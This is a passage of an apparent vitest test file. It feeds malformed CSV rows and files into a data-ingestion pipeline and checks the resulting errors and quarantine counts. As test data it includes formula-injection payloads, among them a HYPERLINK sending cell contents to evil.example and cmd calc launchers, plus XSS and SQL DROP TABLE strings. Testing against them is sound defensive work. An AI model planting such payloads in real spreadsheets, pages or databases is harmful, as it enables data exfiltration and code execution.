/**
 * A corpus of malformed inputs, one named case per defect, over the six competition files and the
 * KMA weather export. Each case ends in exactly one of two outcomes:
 *
 * - a DataError whose message names the file and the problem (matched by a regex), or
 * - counted quarantine: exactly these reasons and counts among the case's own rows, with the rest
 *   accepted; and for every file of that build, rows read = rows accepted + rows quarantined, equal
 *   in the report, the reconciliation table, the table itself and the quarantine table.
 *
 * Hostile text (formulas, script, SQL) that is accepted must come out of the warehouse unchanged.
 * Row-level cases share one warehouse build (see kit.ts); file-level cases stop before or early in
 * the build, so the whole corpus runs in a few seconds.
 */
import {mkdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import iconv from "iconv-lite";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {RAW_FILES, type RawFile} from "../../src/ingest/tables.js";
import {INGEST_ORDER} from "../../src/ingest/specs.js";
import {balanced, build, type Built, cleanup, copyValid, expectDataError, pathOf, readText, reconciliation, writeFile} from "../ingest/helpers.js";
import {
  addCounts,
  BASE,
  BASE_WEATHER_DAYS,
  type Block,
  type Case,
  cell,
  type Counts,
  csv,
  duplicatesOf,
  type ErrorCase,
  orphansOf,
  plan,
  readOf,
  type RowsCase,
  sum,
  type Target,
  type WeatherCase,
  writeBatch
} from "./kit.js";

afterAll(cleanup);

// ---------------------------------------------------------------------------------------------
// Hostile text: spreadsheet formulas (=, +, -, @, tab), HTML/script, SQL and template injection

const H = {
  hyperlink: '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
  plusCmd: "+cmd|' /C calc'!A0",
  atSum: "@SUM(1+1)*cmd|' /C calc'!A0",
  minusCmd: "-2+3+cmd|' /C calc'!A0",
  tabFormula: "\t=1+1",
  spaceFormula: " =1+1",
  script: "<script>alert(document.cookie)</script>",
  img: "<img src=x onerror=alert(1)>",
  svg: '"><svg onload=alert(1)>',
  js: "javascript:alert(1)",
  sql: "'); DROP TABLE product; --",
  template: "${7*7}{{7*7}}",
  nul: "a\u0000b"
} as const;

const MB = 1_000_000;

// Row builders: fields are given as they appear in the file (quote with cell() where needed).
type ProductFields = {clnt: string; sess: string; pd: string; add: string; bra: string; am: string; ct: string};
/** A Product line of session (101, 313); hits makes the official key unique. */
const P = (hits: number, o: Partial<ProductFields> = {}) =>
  csv(o.clnt ?? "0000101", o.sess ?? "00000313", String(hits), o.pd ?? "000001", o.add ?? "색상:레드", o.bra ?? "[바비브라운]", o.am ?? "39000", o.ct ?? "1");
type SessionFields = {sess: string; seq: string; dt: string; pv: string; hr: string; dvc: string; zon: string; city: string};
/** A Session row of a new client. */
const S = (clnt: number, o: Partial<SessionFields> = {}) =>
  csv(String(clnt), o.sess ?? "00000001", o.seq ?? "1", o.dt ?? "20180701", o.pv ?? "10", o.hr ?? "100", o.dvc ?? "mobile", o.zon ?? "Seoul", o.city ?? "Seoul");

async function one<T = Record<string, unknown>>(b: Built, sql: string, params?: Record<string, string | number | boolean | null>): Promise<T> {
  const rows = await b.query<T>(sql, params);
  expect(rows.length, sql).toBe(1);
  return rows[0];
}

/** The quarantine rows of a case's block. */
function quarantineOf(b: Built, file: RawFile, at: Block) {
  return b.query<{line_no: number; reason: string; raw: string; detail: string}>(
    "SELECT line_no, reason, raw, detail FROM quarantine WHERE file = $f AND line_no BETWEEN $a AND $z ORDER BY line_no",
    {f: file, a: at.first, z: at.last}
  );
}

// ---------------------------------------------------------------------------------------------
// Case constructors

const rows = (file: RawFile, name: string, records: RowsCase["records"], quarantined: Counts, more: Partial<RowsCase> = {}): RowsCase => ({
  kind: "rows",
  file,
  name,
  records,
  quarantined,
  ...more
});
const fails = (file: Target, name: string, mutate: (dir: string) => void, errorFile: string | RegExp, message: RegExp, options?: ErrorCase["options"]): ErrorCase => ({
  kind: "error",
  file,
  name,
  mutate,
  errorFile,
  message,
  options
});
const weather = (name: string, edit: WeatherCase["edit"], check: WeatherCase["check"], solo = false): WeatherCase => ({kind: "weather", file: "weather", name, edit, check, solo});

const PRODUCT = /^제5회 Big Data Competition-분석용데이터-01\.Pruduct\.csv$/;
const WEATHER = "weather-seoul-108.csv";
/** The weather fixture's row for 2018-04-04 (the first with rain). */
const W404 = "서울,108,2018-04-04,7.1,2.1,12.1,3.5";
const replaceRow = (dir: string, row: string) => writeFile(dir, "weather", readText(dir, "weather").replace(W404, row));

// ---------------------------------------------------------------------------------------------
// The corpus

const CORPUS: Case[] = [
  // ---- 01.Product --------------------------------------------------------------------------
  rows("product", "negative price", [P(101, {am: '"-39,000"'})], {negative_amount: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0].detail).toBe('PD_BUY_AM is negative: "-39,000"')
  }),
  rows("product", "absurd price: 1e15 KRW written out with separators", [P(102, {am: '"1,000,000,000,000,000"'})], {absurd_amount: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0].detail).toBe('PD_BUY_AM is above 100000000: "1,000,000,000,000,000"')
  }),
  rows("product", "price in exponent notation (1e15)", [P(103, {am: "1e15"})], {bad_number: 1}),
  rows("product", "a price of a million digits (a 1 MB numeric field)", [P(104, {am: "9".repeat(MB)})], {absurd_amount: 1}, {
    check: async (b, at) => {
      const [q] = await quarantineOf(b, "product", at);
      expect(q.raw).toBe(P(104, {am: "9".repeat(MB)}).slice(0, 2000));
      expect(q.detail).toBe(`PD_BUY_AM is above 100000000: "${"9".repeat(80)}"`);
    }
  }),
  rows("product", "negative units", [P(105, {ct: "-2"})], {negative_amount: 1}),
  rows("product", "zero units", [P(106, {ct: "0"})], {out_of_range: 1}),
  rows("product", 'malformed thousands separator "39,00"', [P(107, {am: '"39,00"'})], {bad_number: 1}, {
    check: async (b, at) =>
      expect(await quarantineOf(b, "product", at)).toEqual([{line_no: at.first, reason: "bad_number", raw: P(107, {am: '"39,00"'}), detail: 'PD_BUY_AM is not a number: "39,00"'}])
  }),
  rows("product", "unquoted thousands separator splits the price into two fields", [P(108, {am: "39,000"})], {wrong_column_count: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0]).toMatchObject({raw: P(108, {am: "39,000"}), detail: "TOO MANY COLUMNS"})
  }),
  rows("product", "blank CLNT_ID", [P(109, {clnt: ""})], {missing_key: 1}),
  rows("product", "orphan session: (CLNT_ID, SESS_ID) not in Session", [P(110, {clnt: "0000999"})], {orphan_session: 1}, {
    // the raw text is the record as written (read again from the file: the stage holds typed cells)
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0]).toMatchObject({raw: P(110, {clnt: "0000999"}), detail: "(CLNT_ID, SESS_ID) = (999, 313) is not in 05.Session"})
  }),
  rows("product", "orphan product: PD_C not in Master", [P(111, {pd: "999999"})], {orphan_pd_c: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0]).toMatchObject({raw: P(111, {pd: "999999"}), detail: "PD_C 999999 is not in 06.Master"})
  }),
  rows("product", "duplicate key: a copy of line 1", ['0000101,00000313,12,000001,색상:워터멜론,[바비브라운],"39,000",1'], {duplicate_key: 1}, {
    check: async (b, at) => {
      expect((await quarantineOf(b, "product", at))[0].detail).toMatch(/as line 1\b/);
      expect(await b.query("SELECT line_no FROM product WHERE hits_seq = 12")).toEqual([{line_no: 1}]);
    }
  }),
  rows("product", "blank line", [""], {blank_line: 1}),
  rows("product", "a field too many", [`${P(112)},EXTRA`], {wrong_column_count: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0].raw).toBe(`${P(112)},EXTRA`)
  }),
  rows("product", "truncated row: three fields missing", ["0000101,00000313,113,000001,색상:레드"], {wrong_column_count: 1}),
  rows("product", "unterminated quote swallows the next line into one record", ['0000101,06616320,114,000004,"unterminated,삼성,1000,1', '0000103,01050889,115,000006,5개,이케아,"9,370",1'], {parse_error: 1}, {
    read: 1,
    check: async (b, at) => {
      expect((await quarantineOf(b, "product", at))[0].detail).toMatch(/record spans 2 lines/);
      expect(await b.query("SELECT * FROM product WHERE hits_seq IN (114, 115)")).toEqual([]);
    }
  }),
  rows("product", "stray invalid UTF-8 bytes (an overlong sequence)", [Buffer.concat([Buffer.from("0000101,00000313,117,000001,"), Buffer.from([0xc0, 0xaf]), Buffer.from(",b,1000,1")])], {bad_encoding: 1}),
  rows("product", "NA price", [P(118, {am: "NA"})], {missing_value: 1}),
  rows("product", "formula, script and SQL text is accepted verbatim", [
    P(119, {add: cell(H.hyperlink), bra: cell(H.img), am: '"1,000"', ct: "2"}),
    P(120, {add: cell(H.plusCmd), bra: cell(H.atSum)}),
    P(121, {add: cell(H.script), bra: cell(H.sql)}),
    P(122, {add: cell(H.minusCmd), bra: cell(H.tabFormula)}),
    P(123, {add: cell(H.spaceFormula), bra: cell(H.template)})
  ], {}, {
    check: async (b, at) => {
      // Also: after blank, broken and merged lines above, these rows keep their true line numbers.
      expect(await b.query("SELECT line_no, hits_seq, pd_add_nm, pd_bra_nm, pd_buy_am, pd_buy_ct FROM product WHERE hits_seq BETWEEN 119 AND 123 ORDER BY hits_seq")).toEqual([
        {line_no: at.first, hits_seq: 119, pd_add_nm: H.hyperlink, pd_bra_nm: H.img, pd_buy_am: 1000, pd_buy_ct: 2},
        {line_no: at.first + 1, hits_seq: 120, pd_add_nm: H.plusCmd, pd_bra_nm: H.atSum, pd_buy_am: 39000, pd_buy_ct: 1},
        {line_no: at.first + 2, hits_seq: 121, pd_add_nm: H.script, pd_bra_nm: H.sql, pd_buy_am: 39000, pd_buy_ct: 1},
        {line_no: at.first + 3, hits_seq: 122, pd_add_nm: H.minusCmd, pd_bra_nm: H.tabFormula, pd_buy_am: 39000, pd_buy_ct: 1},
        {line_no: at.first + 4, hits_seq: 123, pd_add_nm: H.spaceFormula, pd_bra_nm: H.template, pd_buy_am: 39000, pd_buy_ct: 1}
      ]);
    }
  }),
  rows("product", "a NUL byte inside a field is kept verbatim", [P(124, {add: H.nul})], {}, {
    check: async (b) => expect((await one<{v: string}>(b, "SELECT pd_add_nm AS v FROM product WHERE hits_seq = 124")).v).toBe(H.nul)
  }),
  rows("product", "a trailing comma (one empty extra field) loses nothing and is accepted", [`${P(125, {am: "4500", ct: "3"})},`], {}, {
    check: async (b, at) =>
      expect(await b.query("SELECT line_no, pd_c, pd_add_nm, pd_bra_nm, pd_buy_am, pd_buy_ct FROM product WHERE hits_seq = 125")).toEqual([
        {line_no: at.first, pd_c: 1, pd_add_nm: "색상:레드", pd_bra_nm: "[바비브라운]", pd_buy_am: 4500, pd_buy_ct: 3}
      ])
  }),
  rows("product", "last row cut off mid-field, no final line break", ["0000101,00000313,126,0000"], {wrong_column_count: 1}, {
    noFinalBreak: true,
    check: async (b, at) => expect((await quarantineOf(b, "product", at))[0]).toMatchObject({raw: "0000101,00000313,126,0000", detail: "MISSING COLUMNS"})
  }),
  fails("product", "missing column", (d) => writeFile(d, "product", readText(d, "product").replace('"PD_BUY_CT"', '"PD_BUY_COUNT"')), PRODUCT, /Pruduct\.csv: missing column PD_BUY_CT \(01\.Product needs .*; the header has .*"PD_BUY_COUNT"/),
  fails("product", "UTF-16BE without a byte-order mark", (d) => writeFile(d, "product", Buffer.from(readText(d, "product").replace(/^\ufeff/, ""), "utf16le").swap16()), PRODUCT, /Pruduct\.csv: not UTF-8: it looks like UTF-16BE\. Re-save it as UTF-8/),
  fails("product", "header only (CRLF)", (d) => writeFile(d, "product", readText(d, "product").split("\r\n")[0] + "\r\n"), PRODUCT, /Pruduct\.csv: has a header but no data rows \(01\.Product\)$/),
  fails("product", "every line orphaned: no PD_C is in Master", (d) => writeFile(d, "product", readText(d, "product").replace(/^(\d+,\d+,\d+,)\d+,/gm, "$1999999,")), PRODUCT, /Pruduct\.csv: no valid rows: all 10 rows were quarantined \(orphan_pd_c 9, hits_seq_1_notice 1\)$/),

  // ---- 02.Search1 --------------------------------------------------------------------------
  rows("search1", "orphan session", ['999,00000313,"없는 세션, 쉼표",1'], {orphan_session: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "search1", at))[0]).toMatchObject({raw: '999,00000313,"없는 세션, 쉼표",1', detail: "(CLNT_ID, SESS_ID) = (999, 313) is not in 05.Session"})
  }),
  rows("search1", "a 1 MB keyword", [`101,00000313,${"가".repeat(MB)},1`], {field_too_long: 1}, {
    check: async (b, at) => {
      const [q] = await quarantineOf(b, "search1", at);
      expect(q.raw.length).toBe(2000);
      expect(q.raw.startsWith("101,00000313,가가")).toBe(true);
      expect(q.detail).toBe("KWD_NM has 1000000 characters (limit 1000)");
    }
  }),
  rows("search1", "a repeated keyword is kept and counted as a duplicate", ["101,00000313,빌리프 아이크림,2"], {}, {
    duplicates: 1,
    check: async (b) => expect((await b.query("SELECT search_cnt FROM search1 WHERE kwd_nm = '빌리프 아이크림' ORDER BY 1")).map((r) => r.search_cnt)).toEqual([2, 6])
  }),
  rows("search1", "zero count", ["101,00000313,키워드,0"], {out_of_range: 1}),
  rows("search1", "negative count", ["101,00000313,음수키워드,-1"], {negative_amount: 1}),
  rows("search1", 'absurd count "2,000,000"', ['101,00000313,많이,"2,000,000"'], {absurd_amount: 1}),
  rows("search1", "formula and script keywords are accepted verbatim", [H.hyperlink, H.plusCmd, H.atSum, H.svg, H.js].map((k, i) => csv("101", "00000313", cell(k), String(101 + i))), {}, {
    check: async (b) =>
      expect((await b.query("SELECT kwd_nm FROM search1 WHERE search_cnt BETWEEN 101 AND 105 ORDER BY search_cnt")).map((r) => r.kwd_nm)).toEqual([H.hyperlink, H.plusCmd, H.atSum, H.svg, H.js])
  }),
  // a header alone is data here (customers who never searched); rows that are all refused are not
  fails("search1", "every row quarantined", (d) => writeFile(d, "search1", "CLNT_ID,SESS_ID,KWD_NM,SEARCH_CNT\n101,00000313,음수,-1\n"), "02.Search1.csv", /^02\.Search1\.csv: no valid rows: all 1 rows were quarantined \(negative_amount 1\)$/),
  fails("search1", "tab-separated", (d) => writeFile(d, "search1", readText(d, "search1").replaceAll(",", "\t")), "02.Search1.csv", /^02\.Search1\.csv: missing columns CLNT_ID, SESS_ID, KWD_NM, SEARCH_CNT .*; the file does not look comma-separated\)$/),

  // ---- 03.Search2 --------------------------------------------------------------------------
  rows("search2", "ISO date is accepted", ["2018-05-01,ISO날짜,3"], {}, {
    check: async (b) => expect(await b.query("SELECT sess_dt, search_cnt FROM search2 WHERE kwd_nm = 'ISO날짜'")).toEqual([{sess_dt: "2018-05-01", search_cnt: 3}])
  }),
  rows("search2", "blank date, blank keyword", [",빈날짜,3", "20180501,,5"], {missing_key: 2}),
  rows("search2", 'malformed thousands separator "1,23"', ['20180501,잘못된수,"1,23"'], {bad_number: 1}),
  rows("search2", "impossible date 2018-03-32", ["20180332,잘못된날짜,1"], {bad_date: 1}),
  rows("search2", "negative count", ["20180501,음수,-3"], {negative_amount: 1}),
  rows("search2", "absurd count: 1e15 searches", ['20180501,폭주,"1,000,000,000,000,000"'], {absurd_amount: 1}),
  rows("search2", "stray invalid UTF-8 bytes in one row", [Buffer.concat([Buffer.from("20180501,"), Buffer.from([0xff, 0xfe]), Buffer.from("깨짐,1")])], {bad_encoding: 1}),
  rows("search2", "text after a closing quote", ['20180501,"따옴표"뒤,1'], {parse_error: 1}, {
    // DuckDB also reports INVALID ENCODING here (Hangul right after the quote); it must not count as such.
    check: async (b, at) => expect((await quarantineOf(b, "search2", at))[0]).toMatchObject({raw: '20180501,"따옴표"뒤,1', detail: "UNQUOTED VALUE"})
  }),
  rows("search2", "150 Korean keywords with text after a closing quote are parse errors, not a wrong encoding", Array.from({length: 150}, (_, i) => `20180503,"신상${i}"원피스,1`), {parse_error: 150}),
  rows("search2", "formula and script keywords are accepted verbatim", [H.minusCmd, H.script, H.sql, H.nul].map((k, i) => csv("20180502", cell(k), String(201 + i))), {}, {
    check: async (b) => expect((await b.query("SELECT kwd_nm FROM search2 WHERE search_cnt BETWEEN 201 AND 204 ORDER BY search_cnt")).map((r) => r.kwd_nm)).toEqual([H.minusCmd, H.script, H.sql, H.nul])
  }),
  rows("search2", "a 1.1 MB record over a 1 MB line limit", [`20180501,${"x".repeat(1_100_000)},1`, "20180502,뒤,1"], {line_too_long: 1}, {
    options: {maxLineBytes: MB},
    check: async (b, at) => {
      expect((await quarantineOf(b, "search2", at)).map((q) => q.line_no)).toEqual([at.first]);
      expect(await b.query("SELECT sess_dt FROM search2 WHERE kwd_nm = '뒤'")).toEqual([{sess_dt: "2018-05-02"}]);
    }
  }),
  fails("search2", "missing file", (d) => rmSync(pathOf(d, "search2")), "03.Search2", /^03\.Search2: file not found in .*: expected "03\.Search2\.csv"/),
  fails("search2", "CP949 (EUC-KR) re-save", (d) => writeFile(d, "search2", iconv.encode(readText(d, "search2"), "cp949")), "03.Search2.csv", /^03\.Search2\.csv: not UTF-8: .*looks like CP949\/EUC-KR/),
  fails(
    "search2",
    "CP949 after a first megabyte of ASCII",
    (d) => {
      const ascii = Array.from({length: 40_000}, (_, i) => `20180501,kw${i},1`).join("\n");
      const korean = Array.from({length: 500}, (_, i) => `20180502,키워드${i},1`).join("\n");
      writeFile(d, "search2", Buffer.concat([Buffer.from(`SESS_DT,KWD_NM,SEARCH_CNT\n${ascii}\n`), iconv.encode(`${korean}\n`, "cp949")]));
    },
    "03.Search2.csv",
    /^03\.Search2\.csv: not UTF-8: 500 of 40500 rows have invalid bytes \(first at line 40001\); it looks like CP949\/EUC-KR/
  ),

  // ---- 04.Custom ---------------------------------------------------------------------------
  rows("custom", "gender X", ["111,X,30"], {bad_gender: 1}),
  rows("custom", "age 35 is not an age band", ["112,F,35"], {bad_age: 1}),
  rows("custom", "negative age", ["114,M,-30"], {bad_age: 1}),
  rows("custom", "duplicate client keeps the first row", ["101,M,20"], {duplicate_key: 1}, {
    check: async (b) => expect(await b.query("SELECT gender, age FROM custom WHERE clnt_id = 101")).toEqual([{gender: "F", age: 30}])
  }),
  rows("custom", 'lower-case gender and a quoted age are accepted', ['113,f,"20"'], {}, {
    check: async (b) => expect(await b.query("SELECT gender, age FROM custom WHERE clnt_id = 113")).toEqual([{gender: "F", age: 20}])
  }),
  rows("custom", "a formula as gender is quarantined with its raw text unchanged", [csv("115", cell(H.hyperlink), "40")], {bad_gender: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "custom", at))[0].raw).toBe(csv("115", cell(H.hyperlink), "40"))
  }),
  rows("custom", "blank lines between records", ["", "", "116,F,20"], {blank_line: 2}, {
    check: async (b, at) => expect((await quarantineOf(b, "custom", at)).map((q) => q.line_no)).toEqual([at.first, at.first + 1])
  }),
  rows("custom", "a blank line at the end of the file", ["117,M,30", ""], {blank_line: 1}, {last: true}),
  fails("custom", "two files for one role", (d) => writeFileSync(`${d}/04.Custom.csv`, readText(d, "custom")), "04.Custom", /^04\.Custom: several files .*"04\.Custom\.csv".*"Custom\.csv".*keep one$/),
  fails("custom", "a column twice in the header", (d) => writeFile(d, "custom", "CLNT_ID,CLNT_GENDER,CLNT_AGE,CLNT_AGE\n1,F,30,30\n"), "Custom.csv", /^Custom\.csv: column CLNT_AGE appears twice in the header/),
  fails("custom", "UTF-16LE with a byte-order mark", (d) => writeFile(d, "custom", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(readText(d, "custom"), "utf16le")])), "Custom.csv", /^Custom\.csv: not UTF-8: it looks like UTF-16LE/),
  fails("custom", "no valid row at all", (d) => writeFile(d, "custom", "CLNT_ID,CLNT_GENDER,CLNT_AGE\n1,X,30\n2,Y,40\n"), "Custom.csv", /^Custom\.csv: no valid rows: all 2 rows were quarantined \(bad_gender 2\)$/),

  // ---- 05.Session --------------------------------------------------------------------------
  rows("session", "impossible date 2018-02-31", [S(106, {dt: "20180231"})], {bad_date: 1}),
  rows("session", "a date outside any plausible period (a mistyped century)", [S(107, {dt: "21081001"})], {out_of_range_date: 1}),
  rows("session", "a date after the period given with --end", [S(108, {dt: "20181001"})], {out_of_range_date: 1}, {options: {period: {end: "2018-09-30"}}}),
  rows("session", "date with slashes", [S(118, {dt: "2018/07/01"})], {bad_date: 1}),
  // the pages hold customer ids as 32-bit integers: a larger one is refused here, not in a loader
  rows("session", "a customer id above 2,147,483,647", [S(3_000_000_000)], {out_of_range: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "session", at))[0].detail).toBe('CLNT_ID is above 2147483647: "3000000000"')
  }),
  rows("session", "unknown device", [S(108, {dvc: "smartwatch"})], {bad_device: 1}),
  rows("session", "duplicate session keeps the first row", ["101,00000313,99,20180702,10,100,mobile,Seoul,Seoul"], {duplicate_key: 1}, {
    check: async (b) => expect(await b.query("SELECT sess_seq FROM session WHERE clnt_id = 101 AND sess_id = 313")).toEqual([{sess_seq: 9}])
  }),
  rows("session", "negative page views", [S(109, {pv: "-5"})], {negative_amount: 1}),
  rows("session", 'absurd duration "99,999,999,999" s', [S(119, {hr: '"99,999,999,999"'})], {absurd_amount: 1}),
  rows("session", "blank ZON_NM", [S(110, {zon: ""})], {missing_value: 1}),
  rows("session", "a NUL byte inside a number", [S(120, {pv: "1\u00000"})], {bad_number: 1}),
  rows("session", "a 1 MB city name", [S(121, {city: "서".repeat(MB)})], {field_too_long: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "session", at))[0].detail).toBe("CITY_NM has 1000000 characters (limit 200)")
  }),
  rows("session", "ISO date, padded number, capitalised device are accepted", ['111,00001005,1,2018-07-01, 12 ,"2,000",Mobile,Seoul,Seoul'], {}, {
    check: async (b) => expect(await b.query("SELECT sess_dt, tot_pag_view_ct, tot_sess_hr_v, dvc_ctg_nm FROM session WHERE clnt_id = 111")).toEqual([{sess_dt: "2018-07-01", tot_pag_view_ct: 12, tot_sess_hr_v: 2000, dvc_ctg_nm: "mobile"}])
  }),
  rows("session", "formula and script region names are accepted verbatim", [S(122, {zon: cell(H.hyperlink), city: cell(H.img)})], {}, {
    check: async (b) => expect(await b.query("SELECT zon_nm, city_nm FROM session WHERE clnt_id = 122")).toEqual([{zon_nm: H.hyperlink, city_nm: H.img}])
  }),
  fails("session", "empty file (0 bytes)", (d) => writeFile(d, "session", ""), "05.Session.csv", /^05\.Session\.csv: file is empty \(0 bytes\)$/),
  fails("session", "only a BOM and a line break", (d) => writeFile(d, "session", "\ufeff\n"), "05.Session.csv", /^05\.Session\.csv: file is empty \(no header, no rows\)$/),
  fails("session", "header row lost: the file starts with data", (d) => writeFile(d, "session", readText(d, "session").split("\n").slice(1).join("\n")), "05.Session.csv", /^05\.Session\.csv: missing columns CLNT_ID, SESS_ID, .*CITY_NM \(05\.Session needs .*; the header has "101", "00000313"/),
  fails("session", "a header and blank lines only", (d) => writeFile(d, "session", `${readText(d, "session").split("\n")[0]}\n\n\n`), "05.Session.csv", /^05\.Session\.csv: no valid rows: all 2 rows were quarantined \(blank_line 2\)$/),

  // ---- 06.Master ---------------------------------------------------------------------------
  rows("master", "duplicate code keeps the first row", ["000001,중복 상품,여성의류,여성의류상의,여성티셔츠"], {duplicate_key: 1}, {
    check: async (b) => expect((await one<{n: string}>(b, "SELECT pd_nm AS n FROM master WHERE pd_c = 1")).n).toMatch(/^언더아머/)
  }),
  rows("master", "blank product name", ["000011,,여성의류,여성의류상의,여성티셔츠"], {missing_value: 1}),
  rows("master", "a 1 MB product name", [`000012,${"상".repeat(MB)},여성의류,여성의류상의,여성티셔츠`], {field_too_long: 1}, {
    check: async (b, at) => expect((await quarantineOf(b, "master", at))[0].detail).toBe("PD_NM has 1000000 characters (limit 4000)")
  }),
  rows("master", "a letter in the product code", ["A00013,코드오류,여성의류,여성의류상의,여성티셔츠"], {bad_number: 1}),
  rows("master", "formula, script and SQL product names are accepted verbatim", [H.atSum, H.plusCmd, H.img, H.sql, H.svg].map((n, i) => csv(`0000${14 + i}`, cell(n), "여성의류", "여성의류상의", "여성티셔츠")), {}, {
    check: async (b) => {
      expect((await b.query("SELECT pd_nm FROM master WHERE pd_c BETWEEN 14 AND 18 ORDER BY pd_c")).map((r) => r.pd_nm)).toEqual([H.atSum, H.plusCmd, H.img, H.sql, H.svg]);
      expect((await one<{n: number}>(b, "SELECT count(*) AS n FROM product")).n).toBeGreaterThan(0);
    }
  }),
  fails("master", "semicolon-separated", (d) => writeFile(d, "master", readText(d, "master").replaceAll(",", ";")), "06.Master.csv", /^06\.Master\.csv: missing columns PD_C, PD_NM.*does not look comma-separated/),
  fails("master", "a blank first line before the header", (d) => writeFile(d, "master", `\n${readText(d, "master")}`), "06.Master.csv", /^06\.Master\.csv: the first line is blank; expected the header$/),
  fails("master", "an unterminated quote in the header", (d) => writeFile(d, "master", '"PD_C,PD_NM,CLAC1_NM,CLAC2_NM,CLAC3_NM\n000001,상품,여성의류,여성의류상의,여성티셔츠\n'), "06.Master.csv", /^06\.Master\.csv: the header line has an unterminated quote/),
  fails("master", "a directory where the file should be", (d) => {
    rmSync(pathOf(d, "master"));
    mkdirSync(pathOf(d, "master"));
  }, "06.Master", /^06\.Master: file not found in /),

  // ---- KMA weather export ------------------------------------------------------------------
  weather("formula and script as the station name are kept verbatim", (t) => t.replaceAll("서울,108,", `${cell(`${H.hyperlink}${H.img}`)},108,`), async (b) => {
    expect(b.report.weather.stationName).toBe(`${H.hyperlink}${H.img}`);
    expect((await one<{v: string}>(b, "SELECT value AS v FROM meta WHERE key = 'weather_source'")).v).toBe(`KMA ASOS 108 ${H.hyperlink}${H.img} (${WEATHER})`);
  }),
  weather("garbage rows of other stations are ignored", (t) => `${t}부산,159,2018-02-30,NaN,,,-5\n${H.script},999,not a date\n,,,\n`, async (b) => {
    expect(b.report.weather).toMatchObject({station: 108, days: BASE_WEATHER_DAYS});
  }),
  weather("station 108 rows outside the period are ignored", (t) => `${t}서울,108,2018-03-31,-99,,,\n서울,108,2018-10-01,x,,,\n`, async (b) => {
    expect(await b.query("SELECT min(date) AS a, max(date) AS z, min(temp_mean) AS t FROM weather")).toEqual([{a: "2018-04-01", z: "2018-09-30", t: 6.3}]);
  }),
  weather("the export as KMA ships it: CP949", (t) => iconv.encode(t, "cp949"), (b) => {
    expect(b.report.weather).toMatchObject({encoding: "cp949", stationName: "서울", days: BASE_WEATHER_DAYS});
  }, true),
  fails("weather", "a given weather file that does not exist", () => {}, "nowhere.csv", /^nowhere\.csv: weather file not found: .*nowhere\.csv \(given with --weather\)$/, {weatherFile: "/nonexistent/nowhere.csv"}),
  fails("weather", "two weather files in the data folder", (d) => writeFileSync(join(d, "kma-export.csv"), readText(d, "weather")), "weather", /^weather: several weather files in .* \("kma-export\.csv", "weather-seoul-108\.csv"\); keep one/),
  fails("weather", "station not in the file", () => {}, WEATHER, /^weather-seoul-108\.csv: station 999 not found \(stations in the file: 108, 159\)$/, {station: 999}),
  fails("weather", "a day missing", (d) => writeFile(d, "weather", readText(d, "weather").replace(/^서울,108,2018-06-10,.*\n/m, "")), WEATHER, /^weather-seoul-108\.csv: station 108 lacks 1 day of 2018-04-01\.\.2018-09-30: 2018-06-10 \(the file covers 2018-04-01\.\.2018-09-30 for station 108\)\. Add the missing days, or remove the file to run the models without weather$/),
  fails("weather", "a file of another year", (d) => writeFile(d, "weather", readText(d, "weather").replaceAll(",2018-", ",2017-")), WEATHER, /^weather-seoul-108\.csv: covers none of the data's dates: the file covers 2017-04-01\.\.2017-09-30 for station 108, the data needs 2018-04-01\.\.2018-09-30/),
  fails("weather", "empty file (0 bytes)", (d) => writeFile(d, "weather", ""), WEATHER, /^weather-seoul-108\.csv: file is empty$/),
  fails("weather", "the rain column renamed", (d) => writeFile(d, "weather", readText(d, "weather").replace("일강수량(mm)", "강수")), WEATHER, /^weather-seoul-108\.csv: missing column 일강수량\(mm\) \(header: 지점명, 지점, 일시, .*강수; read as utf-8\)$/),
  fails("weather", "header only", (d) => writeFile(d, "weather", readText(d, "weather").split("\n")[0] + "\n"), WEATHER, /^weather-seoul-108\.csv: has a header but no data rows \(header: 지점명, 지점, 일시/),
  fails("weather", "UTF-16LE", (d) => writeFile(d, "weather", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(readText(d, "weather"), "utf16le")])), WEATHER, /^weather-seoul-108\.csv: not UTF-8 or CP949: it looks like UTF-16LE/),
  fails("weather", "stray invalid bytes in a UTF-8 export", (d) => writeFile(d, "weather", Buffer.concat([readFileSync(pathOf(d, "weather")), Buffer.from("부산,159,2018-04-04,"), Buffer.from([0xff, 0xfe]), Buffer.from(",,,\n")])), WEATHER, /^weather-seoul-108\.csv: not UTF-8: line 188 has bytes that are not UTF-8, while the rest reads as UTF-8/),
  fails("weather", "truncated row: the rain cell is missing", (d) => replaceRow(d, "서울,108,2018-04-04,7.1"), WEATHER, /^weather-seoul-108\.csv: line 5: 4 fields, the header has 7 /),
  fails("weather", 'unquoted thousands separator in the rain cell ("1,234.5")', (d) => replaceRow(d, "서울,108,2018-04-04,7.1,2.1,12.1,1,234.5"), WEATHER, /^weather-seoul-108\.csv: line 5: 8 fields, the header has 7 /),
  fails("weather", "a formula as the temperature", (d) => replaceRow(d, "서울,108,2018-04-04,=1+7.1,2.1,12.1,3.5"), WEATHER, /^weather-seoul-108\.csv: line 5: bad mean temperature "=1\+7\.1" on 2018-04-04$/),
  fails("weather", "absurd temperature 1e15 °C", (d) => replaceRow(d, "서울,108,2018-04-04,1000000000000000,2.1,12.1,3.5"), WEATHER, /^weather-seoul-108\.csv: line 5: implausible mean temperature 1000000000000000 °C on 2018-04-04/),
  fails("weather", "negative rain", (d) => replaceRow(d, "서울,108,2018-04-04,7.1,2.1,12.1,-3.5"), WEATHER, /^weather-seoul-108\.csv: line 5: negative precipitation -3\.5 on 2018-04-04$/),
  fails("weather", "absurd rain 99,999 mm", (d) => replaceRow(d, "서울,108,2018-04-04,7.1,2.1,12.1,99999"), WEATHER, /^weather-seoul-108\.csv: line 5: implausible precipitation 99999 mm on 2018-04-04/),
